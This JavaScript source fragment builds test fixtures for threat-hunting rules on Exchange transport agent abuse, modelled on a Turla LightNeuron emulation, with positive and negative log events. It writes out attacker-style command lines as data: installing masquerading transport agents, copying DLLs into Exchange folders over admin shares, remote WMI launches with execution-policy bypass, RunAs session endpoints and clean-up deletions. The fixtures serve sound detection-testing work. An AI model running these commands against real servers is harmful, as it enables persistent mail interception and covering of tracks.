  const twoAgents = [ps(4103, '2026-11-04T10:02:00.000Z', HOST, { ContextInfo: ctx('Enable-TransportAgent', '', `${PS} -NoExit -Command Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn`), UserData: '',
    Payload: [payload('Enable-TransportAgent', [['Identity', 'Exchange DkimSigner']]), payload('Enable-TransportAgent', [['Identity', 'Mail Relay Helper']])].join('\r\n') }, 'S-1-5-21-1004336348-1177238915-682003330-1107')];
  W('th_exchange_transport_agent_cmdlet_ps_module', 'positive', 'vendor-name-or-folder-misused.jsonl', jsonl([...misused, ...twoAgents]));
  W('th_exchange_transport_agent_cmdlet_ps_module', 'negative', 'vendor-agent.jsonl', jsonl(vendorModule));
  W('th_exchange_transport_agent_cmdlet_ps_module', 'negative', 'vendor-agent.xml', xmlDoc(vendorModule2));
  const R = 'th_exchange_vendor_agent_cmdlet_ps_module';
  W(R, 'positive', 'powershell.jsonl', jsonl([
    m4103('2026-11-03T10:12:00.000Z', HOST, 'Install-TransportAgent', [['Name', 'Exchange DkimSigner'], ['TransportAgentFactory', DKIM_FACTORY], ['AssemblyPath', DKIM_DLL]]),
    m4103('2026-11-03T10:12:40.000Z', HOST, 'Enable-TransportAgent', [['Identity', 'Exchange DkimSigner']]),
  ]));
  W(R, 'positive', 'powershell.xml', xmlDoc([
    m4103('2026-11-03T11:00:00.000Z', HOST2, 'Install-TransportAgent', [['Name', 'SMSMSERoutingAgent'], ['TransportAgentFactory', SMSMSE_FACTORY], ['AssemblyPath', SMSMSE_DLL]]),
    m4103('2026-11-03T11:00:30.000Z', HOST2, 'Set-TransportAgent', [['Identity', 'SMSMSERoutingAgent'], ['Priority', '3']]),
  ]));
  W(R, 'negative', 'powershell.jsonl', jsonl([
    m4103('2026-11-04T10:00:00.000Z', HOST, 'Install-TransportAgent', [['Name', 'Exchange DkimSigner'], ['TransportAgentFactory', 'Relay.Factory'], ['AssemblyPath', 'C:\\ProgramData\\Relay\\relay.dll']]),
    m4103('2026-11-04T10:01:00.000Z', HOST, 'Install-TransportAgent', [['Name', 'Mail Relay Helper'], ['TransportAgentFactory', 'Relay.Factory'], ['AssemblyPath', `${DKIM_DIR}\\..\\..\\..\\ProgramData\\Relay\\relay.dll`]]),
    ps(4103, '2026-11-04T10:02:00.000Z', HOST, { ContextInfo: ctx('Enable-TransportAgent', '', `${PS} -NoExit -Command Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn`), UserData: '',
      Payload: [payload('Enable-TransportAgent', [['Identity', 'Exchange DkimSigner']]), payload('Enable-TransportAgent', [['Identity', 'Mail Relay Helper']])].join('\r\n') }, 'S-1-5-21-1004336348-1177238915-682003330-1107'),
  ]));
  W(R, 'negative', 'powershell.xml', xmlDoc([
    m4103('2026-11-05T09:00:00.000Z', HOST, 'Disable-TransportAgent', [['Identity', 'Exchange DkimSigner'], ['Confirm', 'False']]),
    m4103('2026-11-05T09:01:00.000Z', HOST, 'Get-TransportAgent', [['Identity', 'Exchange DkimSigner']]),
  ]));
}
{
  const dkimInstallText = `Install-TransportAgent -Name "Exchange DkimSigner" -TransportAgentFactory "${DKIM_FACTORY}" -AssemblyPath "${DKIM_DLL}"`;
  const vendorBlocks = [
    s4104('2026-11-03T10:12:00.000Z', HOST, dkimInstallText),
    s4104('2026-11-03T10:12:40.000Z', HOST, 'Enable-TransportAgent -Identity "Exchange DkimSigner"'),
    // a vendor's own install script: one agent, installed and enabled
    s4104('2026-11-03T11:00:00.000Z', HOST2, [
      'Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn',
      `Install-TransportAgent -Name 'SMSMSERoutingAgent' -TransportAgentFactory ${SMSMSE_FACTORY} -AssemblyPath '${SMSMSE_DLL}'`,
      "Enable-TransportAgent -Identity 'SMSMSERoutingAgent'",
    ].join('\r\n'), 'C:\\Program Files\\Symantec\\SMSMSE\\7.5\\Server\\Install-Agents.ps1'),
  ];
  const misusedBlocks = [
    // the vendor's name with an agent from elsewhere
    s4104('2026-11-04T10:00:00.000Z', HOST, 'Install-TransportAgent -Name "Exchange DkimSigner" -TransportAgentFactory Relay.Factory -AssemblyPath "C:\\ProgramData\\Relay\\relay.dll"'),
    // an abbreviated -AssemblyPath with the vendor's name given positionally
    s4104('2026-11-04T10:00:30.000Z', HOST, "Install-TransportAgent 'Exchange DkimSigner' -Assem C:\\ProgramData\\Relay\\relay.dll -TransportAgentFactory Relay.Factory"),
    // the vendor's agent and another in one block
    s4104('2026-11-04T10:01:00.000Z', HOST, [dkimInstallText, 'Install-TransportAgent -Name "Mail Relay Helper" -TransportAgentFactory Relay.Factory -AssemblyPath "C:\\ProgramData\\Relay\\relay.dll"'].join('\r\n')),
    s4104('2026-11-04T10:01:30.000Z', HOST, "Enable-TransportAgent 'Exchange DkimSigner'; Enable-TransportAgent 'Mail Relay Helper'"),
    // out of the vendor folder
    s4104('2026-11-04T10:02:00.000Z', HOST, `Install-TransportAgent -Name "Mail Relay Helper" -TransportAgentFactory Relay.Factory -AssemblyPath "${DKIM_DIR}\\..\\..\\..\\ProgramData\\Relay\\relay.dll"`),
  ];
  W('th_exchange_transport_agent_cmdlet_ps_script', 'positive', 'vendor-name-or-folder-misused.xml', xmlDoc(misusedBlocks));
  W('th_exchange_transport_agent_cmdlet_ps_script', 'negative', 'vendor-agent.jsonl', jsonl(vendorBlocks));
  const R = 'th_exchange_vendor_agent_cmdlet_ps_script';
  W(R, 'positive', 'powershell.jsonl', jsonl([
    s4104('2026-11-03T10:12:00.000Z', HOST, dkimInstallText),
    s4104('2026-11-03T10:12:40.000Z', HOST, 'Enable-TransportAgent -Identity "Exchange DkimSigner"'),
  ]));
  W(R, 'positive', 'powershell.xml', xmlDoc([
    s4104('2026-11-03T11:00:00.000Z', HOST2, [
      'Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn',
      `Install-TransportAgent -Name 'SMSMSERoutingAgent' -TransportAgentFactory ${SMSMSE_FACTORY} -AssemblyPath '${SMSMSE_DLL}'`,
      "Enable-TransportAgent -Identity 'SMSMSERoutingAgent'",
    ].join('\r\n'), 'C:\\Program Files\\Symantec\\SMSMSE\\7.5\\Server\\Install-Agents.ps1'),
  ]));
  W(R, 'negative', 'powershell.jsonl', jsonl([
    s4104('2026-11-04T10:00:00.000Z', HOST, 'Install-TransportAgent -Name "Exchange DkimSigner" -TransportAgentFactory Relay.Factory -AssemblyPath "C:\\ProgramData\\Relay\\relay.dll"'),
    s4104('2026-11-04T10:00:30.000Z', HOST, "Install-TransportAgent 'Exchange DkimSigner' -Assem C:\\ProgramData\\Relay\\relay.dll -TransportAgentFactory Relay.Factory"),
    s4104('2026-11-04T10:01:30.000Z', HOST, "Enable-TransportAgent 'Exchange DkimSigner'; Enable-TransportAgent 'Mail Relay Helper'"),
  ]));
  W(R, 'negative', 'powershell.xml', xmlDoc([
    s4104('2026-11-04T10:01:00.000Z', HOST, [dkimInstallText, 'Install-TransportAgent -Name "Mail Relay Helper" -TransportAgentFactory Relay.Factory -AssemblyPath "C:\\ProgramData\\Relay\\relay.dll"'].join('\r\n')),
    s4104('2026-11-04T10:02:00.000Z', HOST, `Install-TransportAgent -Name "Mail Relay Helper" -TransportAgentFactory Relay.Factory -AssemblyPath "${DKIM_DIR}\\..\\..\\..\\ProgramData\\Relay\\relay.dll"`),
    // removal, and the implicit-remoting proxy
    s4104('2026-11-05T09:00:00.000Z', HOST, 'Disable-TransportAgent -Identity "Exchange DkimSigner" -Confirm:$false'),
    s4104('2026-11-03T08:05:00.000Z', HOST, proxy('Enable-TransportAgent')),
  ]));
}
{
  const edgeLoad = (t, host, loaded, o = {}) => s7(t, host, { image: EDGE, loaded, ...o });
  W('th_exchange_transport_untrusted_module_load', 'negative', 'vendor-folder-unsigned.jsonl', jsonl([
    // an unsigned vendor agent in its own folder: reported low by th_exchange_transport_vendor_module_unsigned
    edgeLoad('2026-11-03T10:14:02.000Z', HOST, DKIM_DLL, { signed: 'false', status: 'Unavailable', ofn: 'ExchangeDkimSigner.dll', description: 'ExchangeDkimSigner' }),
    edgeLoad('2026-11-03T10:14:02.300Z', HOST, `${DKIM_DIR}\\MimeKit.dll`, { signed: 'false', status: 'Unavailable', ofn: 'MimeKit.dll' }),
  ]));
  W('th_exchange_transport_untrusted_module_load', 'positive', 'vendor-folder-bad-signature.jsonl', jsonl([
    // a signature that is there but does not match the file stays high, vendor folder or not
    s7('2026-11-04T06:10:00.000Z', HOST, { image: FET, loaded: SMSMSE_DLL, signed: 'true', signature: 'Symantec Corporation', status: 'Invalid', company: 'Symantec Corporation', user: SYSTEM }),
    // the vendor's folder name recreated outside Program Files is not the vendor's folder
    s7('2026-11-04T06:11:00.000Z', HOST, { image: FET, loaded: 'C:\\ProgramData\\Symantec\\SMSMSE\\Symantec.MailSecurity.Server.TransportAgent.dll', signed: 'false', status: 'Unavailable', user: SYSTEM }),
  ]));
  const R = 'th_exchange_transport_vendor_module_unsigned';
  W(R, 'positive', 'sysmon.jsonl', jsonl([
    edgeLoad('2026-11-03T10:14:02.000Z', HOST, DKIM_DLL, { signed: 'false', status: 'Unavailable', ofn: 'ExchangeDkimSigner.dll', description: 'ExchangeDkimSigner' }),
    s7('2026-11-03T10:20:00.000Z', HOST, { image: FET, loaded: 'C:\\Program Files\\Symantec\\SMSMSE\\7.5\\Server\\SMSMSE.Scanner.Interop.dll', signed: 'false', status: 'Unavailable', user: SYSTEM }),
  ]));
  W(R, 'positive', 'sysmon.xml', xmlDoc([edgeLoad('2026-11-04T08:00:00.000Z', HOST2, `${DKIM_DIR}\\MimeKit.dll`, { signed: 'false', status: 'Unavailable', ofn: 'MimeKit.dll' })]));
  W(R, 'negative', 'sysmon.jsonl', jsonl([
    // validly signed in the vendor folder; unsigned outside it (the high rule's)
    edgeLoad('2026-11-03T10:14:03.000Z', HOST, DKIM_DLL, { signed: 'true', signature: 'Exchange DkimSigner Project', status: 'Valid' }),
    edgeLoad('2026-11-03T10:41:30.000Z', HOST, LOOKALIKE, { signed: 'false', status: 'Unavailable' }),
    s7('2026-11-04T06:11:00.000Z', HOST, { image: FET, loaded: 'C:\\ProgramData\\Symantec\\SMSMSE\\Symantec.MailSecurity.Server.TransportAgent.dll', signed: 'false', status: 'Unavailable', user: SYSTEM }),
  ]));
  W(R, 'negative', 'sysmon.xml', xmlDoc([
    // not a transport worker: the management shell loading the agent at install time
    s7('2026-11-03T10:11:58.000Z', HOST, { image: W3WP, loaded: DKIM_DLL, signed: 'false', status: 'Unavailable', user: SYSTEM }),
    edgeLoad('2026-11-03T10:14:04.000Z', HOST, `${EX}\\Bin\\Microsoft.Exchange.Transport.dll`, MS),
  ]));
}

// ============ LightNeuron staging, remote launch and clean-up (CTID Turla emulation, steps 18.2–18.6) ============
const WS = 'ADM01.corp.example', DWS = 'adm01.corp.example';
const FIREFOX = 'C:\\Program Files\\Mozilla Firefox\\firefox.exe';
const WMI = 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe', WMIC = 'C:\\Windows\\System32\\wbem\\WMIC.exe';
const OPERATOR = 'CORP\\a.vogel-adm';
const ffx = { image: FIREFOX, cmd: `"${FIREFOX}"`, pid: 5012, parent: 'explorer.exe', domain: 'corp', account: 'a.vogel-adm' };
const cmdLine = (rest) => `"C:\\Windows\\system32\\cmd.exe" /c ${rest}`;
{
  const R = 'th_exchange_remote_copy_into_exchange_tree';
  W(R, 'positive', 'sysmon.jsonl', jsonl([
    s1('2026-11-10T10:21:07.000Z', WS, { image: CMD, ofn: 'Cmd.Exe', parent: FIREFOX, user: OPERATOR, cmd: cmdLine(`copy /Y C:\\Windows\\System32\\mtxconf.dll "\\\\EXCH01\\C$\\Program Files\\Microsoft\\Exchange Server\\V15\\TransportRoles\\agents\\Hygiene\\Microsoft.Exchange.Transport.Agent.ConnectionFiltering.dll"`) }),
    // a moved install on E:, the destination unquoted with a switch after it
    s1('2026-11-10T10:30:00.000Z', WS, { image: 'C:\\Windows\\System32\\xcopy.exe', ofn: 'XCOPY.EXE', parent: CMD, user: OPERATOR, cmd: 'xcopy C:\\Users\\Public\\relay.dll \\\\exch02\\e$\\Exchange2016\\TransportRoles\\agents\\Relay\\ /Y' }),
    // robocopy: the destination is the second argument
    security4688('2026-11-10T10:31:00.000Z', WS, { SubjectUserSid: 'S-1-5-21-1004336348-1177238915-682003330-1190', SubjectUserName: 'a.vogel-adm', SubjectDomainName: 'CORP', SubjectLogonId: '0x7a1f3c', NewProcessId: '0x1c40', NewProcessName: 'C:\\Windows\\System32\\Robocopy.exe', TokenElevationType: '%%1937', ProcessId: '0x1b20', CommandLine: 'robocopy C:\\Windows\\Temp\\stage "\\\\EXCH01\\C$\\Windows\\ServiceProfiles\\NetworkService\\AppData\\Local\\Temp" msmdat.xml /R:0', TargetUserSid: 'S-1-0-0', TargetUserName: '-', TargetDomainName: '-', TargetLogonId: '0x0', ParentProcessName: CMD, MandatoryLabel: 'S-1-16-12288' }),
  ]));
  W(R, 'positive', 'defender.csv', csv([
    dProc('2026-11-10T10:22:08.0000000Z', DWS, PS, "powershell.exe -NoProfile -Command \"Copy-Item -Path C:\\Windows\\Temp\\exdbdata.dll -Destination '\\\\exch01\\C$\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\' -Force\"", ffx, { domain: 'corp', account: 'a.vogel-adm', ofn: 'PowerShell.EXE' }),
    dProc('2026-11-10T10:25:11.0000000Z', DWS, CMD, cmdLine('move /Y C:\\Windows\\Temp\\perfe009.dat "\\\\EXCH01\\D$\\Exchange Server\\V15\\Bin\\winmail.dat"'), ffx, { domain: 'corp', account: 'a.vogel-adm', ofn: 'Cmd.Exe' }),
  ]));
  W(R, 'negative', 'sysmon.jsonl', jsonl([
    // copying FROM the server (the UNC path is the source), listing a folder, a non-administrative share
    s1('2026-11-10T09:00:00.000Z', WS, { image: CMD, ofn: 'Cmd.Exe', parent: 'C:\\Windows\\explorer.exe', cmd: cmdLine('copy "\\\\EXCH01\\C$\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\EdgeTransport.exe.config" C:\\Temp\\') }),
    s1('2026-11-10T09:01:00.000Z', WS, { image: CMD, ofn: 'Cmd.Exe', parent: 'C:\\Windows\\explorer.exe', cmd: cmdLine('dir "\\\\EXCH01\\C$\\Program Files\\Microsoft\\Exchange Server\\V15\\TransportRoles\\agents\\"') }),
    s1('2026-11-10T09:02:00.000Z', WS, { image: CMD, ofn: 'Cmd.Exe', parent: 'C:\\Windows\\explorer.exe', cmd: cmdLine('copy C:\\Temp\\relay.dll "\\\\fileserver\\software\\Exchange Server\\V15\\Bin\\relay.dll"') }),
  ]));
  W(R, 'negative', 'defender.csv', csv([
    // collecting logs from the server; a copy to another folder of the server
    dProc('2026-11-10T09:03:00.0000000Z', DWS, 'C:\\Windows\\System32\\Robocopy.exe', 'robocopy "\\\\EXCH01\\C$\\Program Files\\Microsoft\\Exchange Server\\V15\\TransportRoles\\Logs\\MessageTracking" C:\\IR\\MessageTracking /E', { image: CMD, cmd: 'cmd.exe', pid: 7000, parent: 'explorer.exe', domain: 'corp', account: 'm.ortiz' }, { domain: 'corp', account: 'm.ortiz', ofn: 'robocopy.exe' }),
    dProc('2026-11-10T09:04:00.0000000Z', DWS, PS, 'powershell.exe -Command "Copy-Item C:\\Tools\\Get-QueueReport.ps1 -Destination \\\\EXCH01\\C$\\Scripts\\"', { image: 'C:\\Windows\\explorer.exe', pid: 3300, parent: 'userinit.exe', domain: 'corp', account: 'm.ortiz' }, { domain: 'corp', account: 'm.ortiz', ofn: 'PowerShell.EXE' }),
  ]));
}
{
  const R = 'th_wmi_remote_system32_powershell_script';
  const remote = 'cmd.exe /c powershell.exe -File C:\\Windows\\System32\\msiex.ps1 > C:\\Windows\\Temp\\msiexinstallation.log 2>&1';
  W(R, 'positive', 'sysmon.jsonl', jsonl([
    s1('2026-11-10T10:33:10.000Z', WS, { image: WMIC, ofn: 'wmic.exe', parent: CMD, user: OPERATOR, cmd: `wmic.exe  /node:EXCH01 /privileges:enable process call create "${remote}"` }),
    s1('2026-11-10T10:33:11.000Z', HOST, { image: CMD, ofn: 'Cmd.Exe', parent: WMI, parentCmd: 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding', user: OPERATOR, cmd: remote }),
    s1('2026-11-12T16:00:00.000Z', HOST2, { image: PS, ofn: 'PowerShell.EXE', parent: WMI, parentCmd: 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding', user: OPERATOR, cmd: 'powershell.exe -ExecutionPolicy Bypass -fi "C:\\Windows\\System32\\msinp.ps1"' }),
  ]));
  W(R, 'positive', 'defender.csv', csv([
    dProc('2026-11-12T15:59:58.0000000Z', DWS, PS, "powershell.exe -NoProfile -Command \"Invoke-WmiMethod -ComputerName EXCH02 -Class Win32_Process -Name Create -ArgumentList 'powershell.exe -File %SystemRoot%\\System32\\msinp.ps1'\"", ffx, { domain: 'corp', account: 'a.vogel-adm', ofn: 'PowerShell.EXE' }),
  ]));
  W(R, 'negative', 'sysmon.jsonl', jsonl([
    // a script from a scripts folder or from a module folder under System32, and remote WMI without a script
    s1('2026-11-10T11:00:00.000Z', HOST, { image: PS, ofn: 'PowerShell.EXE', parent: WMI, user: 'CORP\\svc-monitor', cmd: 'powershell.exe -NoProfile -File C:\\Scripts\\Get-ServerInventory.ps1' }),
    s1('2026-11-10T11:01:00.000Z', HOST, { image: PS, ofn: 'PowerShell.EXE', parent: WMI, user: 'CORP\\svc-monitor', cmd: 'powershell.exe -File C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\Modules\\Inventory\\Collect.ps1' }),
    s1('2026-11-10T11:02:00.000Z', WS, { image: WMIC, ofn: 'wmic.exe', parent: CMD, user: 'CORP\\m.ortiz', cmd: 'wmic /node:EXCH01 process call create "cmd.exe /c ipconfig /all > C:\\Windows\\Temp\\ip.txt"' }),
  ]));
  W(R, 'negative', 'defender.csv', csv([
    // the same script run locally, not through WMI (other rules see the script itself)
    dProc('2026-11-10T11:03:00.0000000Z', DHOST, PS, 'powershell.exe -File C:\\Windows\\System32\\msiex.ps1', { image: 'C:\\Windows\\explorer.exe', pid: 3300, parent: 'userinit.exe', domain: 'corp', account: 'a.vogel-adm' }, { domain: 'corp', account: 'a.vogel-adm', ofn: 'PowerShell.EXE' }),
    dProc('2026-11-10T11:04:00.0000000Z', DHOST, CMD, 'cmd.exe /c powershell.exe -File C:\\Windows\\Temp\\update.ps1', { image: WMI, cmd: 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding', pid: 3900, parent: 'svchost.exe', domain: 'nt authority', account: 'network service' }, { domain: 'corp', account: 'a.vogel-adm', ofn: 'Cmd.Exe' }),
  ]));
}
{
  const R = 'th_pssession_configuration_runas_ps_module';
  const installer = [`${PS}  -File C:\\Windows\\System32\\msiex.ps1`, 'C:\\Windows\\System32\\msiex.ps1'];
  W(R, 'positive', 'powershell.jsonl', jsonl([
    m4103('2026-11-10T10:33:20.000Z', HOST, 'Register-PSSessionConfiguration', [['Name', 'ConnectionFiltering'], ['RunAsCredential', 'System.Management.Automation.PSCredential'], ['Force', 'True']], installer[1], installer[0]),
    m4103('2026-11-11T09:00:00.000Z', HOST, 'Set-PSSessionConfiguration', [['Name', 'MailOps'], ['RunAsCredential', 'System.Management.Automation.PSCredential']]),
  ]));
  W(R, 'positive', 'powershell.xml', xmlDoc([
    m4103('2026-11-12T16:00:05.000Z', HOST2, 'Register-PSSessionConfiguration', [['Name', 'MailFilter'], ['RunAsCredential', 'System.Management.Automation.PSCredential'], ['ShowSecurityDescriptorUI', 'False']]),
  ]));
  W(R, 'negative', 'powershell.jsonl', jsonl([
    // a JEA endpoint with a virtual account (no stored credential), and removing the endpoint
    m4103('2026-11-10T09:00:00.000Z', HOST, 'Register-PSSessionConfiguration', [['Name', 'ExchangeHelpdesk'], ['Path', 'C:\\JEA\\ExchangeHelpdesk.pssc'], ['Force', 'True']]),
    m4103('2026-11-10T10:34:40.000Z', HOST, 'Unregister-PSSessionConfiguration', [['Name', 'ConnectionFiltering'], ['Force', 'True']], installer[1], installer[0]),
  ]));
  W(R, 'negative', 'powershell.xml', xmlDoc([
    m4103('2026-11-10T09:05:00.000Z', HOST, 'Get-PSSessionConfiguration', []),
    m4103('2026-11-10T09:06:00.000Z', HOST, 'New-PSSession', [['ComputerName', 'EXCH01'], ['Credential', 'System.Management.Automation.PSCredential']]),
  ]));
}
{
  const R = 'th_wsman_plugin_runas_registry';
  const WINRM_SVC = 'C:\\Windows\\System32\\svchost.exe';
  const pluginXml = (name, runAs) => `<PlugInConfiguration xmlns="http://schemas.microsoft.com/wbem/wsman/1/config/PluginConfiguration" Name="${name}" Filename="%windir%\\system32\\pwrshplugin.dll" SDKVersion="2" XmlRenderingType="text" Enabled="True" Architecture="64" UseSharedProcess="false" ProcessIdleTimeoutSec="0"${runAs === undefined ? '' : ` RunAsUser="${runAs}" RunAsPassword="01000000d08c9ddf0115d1118c7a00c04fc297eb"`} OutputBufferingMode="Block"><InitializationParameters><Param Name="PSVersion" Value="5.1" /></InitializationParameters><Resources><Resource ResourceUri="http://schemas.microsoft.com/powershell/${name}" SupportsOptions="true" ExactMatch="true"><Security Uri="http://schemas.microsoft.com/powershell/${name}" ExactMatch="true" Sddl="O:NSG:BAD:P(A;;GA;;;BA)(A;;GA;;;IU)S:P(AU;FA;GA;;;WD)(AU;SA;GXGW;;;WD)" /></Resource></Resources><Quotas MaxMemoryPerShellMB="1024" /></PlugInConfiguration>`;
  const s13 = (t, host, key, details) => sysmon(13, t, host, { EventType: 'SetValue', ProcessGuid: `{${guid()}}`, ProcessId: 1288, Image: WINRM_SVC, TargetObject: key, Details: details, User: NETSVC });
  const PLUGIN = 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WSMAN\\Plugin';
  W(R, 'positive', 'sysmon.jsonl', jsonl([
    s13('2026-11-10T10:33:21.000Z', HOST, `${PLUGIN}\\ConnectionFiltering\\ConfigXML`, pluginXml('ConnectionFiltering', OPERATOR)),
    s13('2026-11-11T09:00:01.000Z', HOST2, `${PLUGIN}\\MailOps\\ConfigXML`, pluginXml('MailOps', 'CORP\\svc-mailops')),
  ]));
  const winrm = { image: WINRM_SVC, cmd: 'C:\\Windows\\System32\\svchost.exe -k NetworkService -p -s WinRM', pid: 1288, parent: 'services.exe', domain: 'nt authority', account: 'network service' };
  W(R, 'positive', 'defender.csv', csv([
    dReg('2026-11-12T16:00:06.0000000Z', DHOST2, 'RegistryValueSet', `HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WSMAN\\Plugin\\MailFilter`, winrm, { name: 'ConfigXML', type: 'String', data: pluginXml('MailFilter', 'CORP\\a.vogel-adm') }),
  ]));
  W(R, 'negative', 'sysmon.jsonl', jsonl([
    // Windows' own endpoint, and an endpoint with an empty RunAs account
    s13('2026-11-10T08:00:00.000Z', HOST, `${PLUGIN}\\microsoft.powershell\\ConfigXML`, pluginXml('microsoft.powershell')),
    s13('2026-11-10T08:01:00.000Z', HOST, `${PLUGIN}\\ExchangeHelpdesk\\ConfigXML`, pluginXml('ExchangeHelpdesk', '')),
    // another value of the plugin key
    s13('2026-11-10T08:02:00.000Z', HOST, `${PLUGIN}\\MailOps\\Enabled`, 'DWORD (0x00000001)'),
  ]));
  W(R, 'negative', 'defender.csv', csv([
    dReg('2026-11-10T08:03:00.0000000Z', DHOST, 'RegistryValueSet', 'HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows\\WinRM\\Service', { image: 'C:\\Windows\\System32\\svchost.exe', cmd: 'svchost.exe -k netsvcs -p -s gpsvc', pid: 1500, parent: 'services.exe' }, { name: 'AllowUnencryptedTraffic', type: 'Dword', data: '0' }),
    dReg('2026-11-10T10:34:41.0000000Z', DHOST, 'RegistryValueSet', 'HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WSMAN\\Plugin\\microsoft.powershell', winrm, { name: 'ConfigXML', type: 'String', data: pluginXml('microsoft.powershell') }),
  ]));
}
{
  const R = 'th_exchange_agent_dll_loaded_by_cmdlet_host';
  const WSMPROV = 'C:\\Windows\\System32\\wsmprovhost.exe', ISE = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell_ise.exe';
  W(R, 'positive', 'sysmon.jsonl', jsonl([
    s7('2026-11-10T10:33:45.000Z', HOST, { image: WSMPROV, loaded: LOOKALIKE, signed: 'false', status: 'Unavailable', user: OPERATOR, ofn: 'Microsoft.Exchange.Transport.Agent.ConnectionFiltering.dll' }),
    s7('2026-11-11T09:10:00.000Z', HOST2, { image: PS, loaded: 'E:\\Exchange2016\\TransportRoles\\agents\\Relay\\relay.dll', signed: 'false', status: 'Unavailable', user: ADMIN }),
    // signed, but not by a trusted signer
    s7('2026-11-11T09:20:00.000Z', HOST, { image: W3WP, loaded: `${EX}\\Bin\\Microsoft.Exchange.Diagnostics.Helper.dll`, signed: 'true', signature: 'Contoso Mail Tools Ltd', status: 'Valid', company: 'Contoso Mail Tools Ltd', user: SYSTEM }),
  ]));
  W(R, 'positive', 'sysmon.xml', xmlDoc([
    // a Microsoft name whose signature does not match the file
    s7('2026-11-11T09:30:00.000Z', HOST, { image: ISE, loaded: `${HYG}\\Microsoft.Exchange.Transport.Agent.Hygiene.dll`, signed: 'true', signature: 'Microsoft Corporation', status: 'Invalid', company: 'Microsoft Corporation', user: ADMIN }),
  ]));
  W(R, 'negative', 'sysmon.jsonl', jsonl([
    // a vendor agent installed from its own folder; Microsoft's assembly (the Atomic Red Team test's)
    s7('2026-11-03T10:11:58.000Z', HOST, { image: W3WP, loaded: 'C:\\Program Files\\Exchange DkimSigner\\ExchangeDkimSigner.dll', signed: 'false', status: 'Unavailable', user: SYSTEM }),
    s7('2026-11-11T09:40:00.000Z', HOST, { image: PS, loaded: `${EX}\\Bin\\Microsoft.Exchange.Security.Interop.dll`, ...MS, user: ADMIN }),
  ]));
  W(R, 'negative', 'sysmon.xml', xmlDoc([
    // the transport worker (th_exchange_transport_untrusted_module_load's), a PowerShell module outside the Exchange tree
    s7('2026-11-10T10:34:10.000Z', HOST, { image: EDGE, loaded: LOOKALIKE, signed: 'false', status: 'Unavailable' }),
    s7('2026-11-11T09:50:00.000Z', HOST, { image: PS, loaded: 'C:\\Program Files\\WindowsPowerShell\\Modules\\PSWriteHTML\\1.0.0\\Lib\\Default\\HtmlAgilityPack.dll', signed: 'false', status: 'Unavailable', user: ADMIN }),
  ]));
}
{
  const R = 'th_system32_code_deleted_by_command';
  const staged = ['mtxconf.dll', 'mtxcli.dll', 'msiex.ps1', 'wdr.rules.xml', 'perfe009.dat'].map((n) => `C:\\Windows\\System32\\${n}`).join(' ');
  W(R, 'positive', 'sysmon.jsonl', jsonl([
    s1('2026-11-10T10:45:00.000Z', WS, { image: CMD, ofn: 'Cmd.Exe', parent: FIREFOX, user: OPERATOR, cmd: cmdLine(`del /Q ${staged}`) }),
    s1('2026-11-12T16:10:00.000Z', HOST2, { image: PS, ofn: 'PowerShell.EXE', parent: WMI, user: OPERATOR, cmd: 'powershell.exe -NoProfile -Command "Remove-Item -Force C:\\Windows\\System32\\msinp.ps1"' }),
  ]));
  W(R, 'positive', 'defender.csv', csv([
    dProc('2026-11-10T10:45:30.0000000Z', DWS, CMD, cmdLine('erase "C:\\Windows\\SysWOW64\\mtxcli.dll"'), ffx, { domain: 'corp', account: 'a.vogel-adm', ofn: 'Cmd.Exe' }),
  ]));
  W(R, 'negative', 'sysmon.jsonl', jsonl([
    s1('2026-11-10T09:10:00.000Z', WS, { image: CMD, ofn: 'Cmd.Exe', parent: 'C:\\Windows\\explorer.exe', cmd: cmdLine('del /Q C:\\Windows\\Temp\\*.tmp') }),
    s1('2026-11-10T09:11:00.000Z', HOST, { image: CMD, ofn: 'Cmd.Exe', parent: 'C:\\Windows\\explorer.exe', cmd: cmdLine('del C:\\Windows\\System32\\LogFiles\\W3SVC1\\u_ex261101.log') }),
  ]));
  W(R, 'negative', 'defender.csv', csv([
    // the System32 file is another command's argument, not del's
    dProc('2026-11-10T09:12:00.0000000Z', DWS, CMD, cmdLine('del C:\\Windows\\Temp\\setup.dll & copy C:\\Windows\\System32\\msvcr100.dll C:\\Temp\\'), { image: 'C:\\Windows\\explorer.exe', pid: 3300, parent: 'userinit.exe', domain: 'corp', account: 'm.ortiz' }, { domain: 'corp', account: 'm.ortiz', ofn: 'Cmd.Exe' }),
    dProc('2026-11-10T09:13:00.0000000Z', DWS, PS, 'powershell.exe -Command "Get-ChildItem C:\\Windows\\System32\\*.dll | Measure-Object"', { image: 'C:\\Windows\\explorer.exe', pid: 3300, parent: 'userinit.exe', domain: 'corp', account: 'm.ortiz' }, { domain: 'corp', account: 'm.ortiz', ofn: 'PowerShell.EXE' }),
  ]));
}
{
  const R = 'th_system32_code_deleted_by_shell';
  const s23 = (t, host, image, target, user = OPERATOR) => sysmon(23, t, host, { ProcessGuid: `{${guid()}}`, ProcessId: 6240, User: user, Image: image, TargetFilename: target, Hashes: `SHA1=${hash(target)},MD5=${hash(target, 'md5')}`, IsExecutable: /\.(dll|exe)$/i.test(target) ? 'true' : 'false', Archived: 'false' });
  W(R, 'positive', 'sysmon.jsonl', jsonl([
    s23('2026-11-10T10:45:00.400Z', WS, CMD, 'C:\\Windows\\System32\\mtxconf.dll'),
    s23('2026-11-12T16:10:00.300Z', HOST2, PS, 'C:\\Windows\\System32\\msinp.ps1'),
  ]));
